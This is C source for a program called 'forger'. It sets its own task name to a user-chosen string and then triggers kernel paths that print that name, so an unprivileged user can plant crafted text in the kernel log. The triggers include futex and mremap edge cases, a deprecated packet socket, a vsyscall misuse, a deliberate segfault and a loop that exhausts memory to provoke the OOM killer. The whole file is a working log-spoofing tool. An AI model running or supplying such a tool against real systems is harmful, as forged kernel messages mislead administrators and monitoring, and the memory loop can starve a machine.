/* Makes the kernel print a task's name: forger NAME DEED. Every deed needs no privilege. */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/futex.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static int futex(void) { /* kernel/futex: a shift by more than 31 */
    unsigned words[2] = {0, 0};
    unsigned operation = (FUTEX_OP_OPARG_SHIFT << 28) | (0xfffu << 12);
    return syscall(SYS_futex, &words[0], FUTEX_WAKE_OP, 1, 1, &words[1], operation) < 0;
}

static int duplicate_mapping(void) { /* mm/mremap.c */
    void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return mremap(page, 0, 4096, MREMAP_MAYMOVE) != MAP_FAILED;
}

static int packet_socket(void) { /* net/socket.c */
    return socket(AF_INET, SOCK_PACKET, 0) >= 0;
}

static int remap_pages(void) { /* mm/mmap.c */
    int file = memfd_create("pages", 0);
    if (file < 0 || ftruncate(file, 8192)) return 1;
    void *pages = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    return syscall(SYS_remap_file_pages, pages, 4096, 0, 1, 0) != 0;
}

static int data_limit(void) { /* mm/mmap.c */
    struct rlimit limit = {1 << 20, 1 << 20};
    if (setrlimit(RLIMIT_DATA, &limit)) return 1;
    return mmap(NULL, 1 << 28, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) != MAP_FAILED;
}

static int vsyscall(void) { /* arch/x86/entry/vsyscall: a call beside the entries */
#ifdef __x86_64__
    ((long (*)(void))0xffffffffff600001)();
#endif
    return 1;
}

static int crash(void) { /* arch/x86/mm/fault.c: prints the name and this program's file */
    *(volatile int *)8 = 1;
    return 1;
}

static int eat_memory(void) { /* mm/oom_kill.c, in a control group with a limit */
    char *chunk;
    while ((chunk = malloc(1 << 20))) memset(chunk, 1, 1 << 20);
    return 1;
}

static const struct {
    const char *name;
    int (*act)(void);
} deeds[] = {
    {"futex", futex},           {"mremap", duplicate_mapping}, {"packet", packet_socket}, {"remap", remap_pages},
    {"data", data_limit},       {"vsyscall", vsyscall},        {"crash", crash},          {"memory", eat_memory},
};

int main(int count, char **words) {
    if (count != 3 || getuid() == 0) {
        fprintf(stderr, "usage, not as root: forger NAME DEED\n");
        return 2;
    }
    prctl(PR_SET_NAME, words[1]);
    for (size_t i = 0; i < sizeof deeds / sizeof *deeds; i++)
        if (!strcmp(deeds[i].name, words[2])) return deeds[i].act();
    return 2;
}
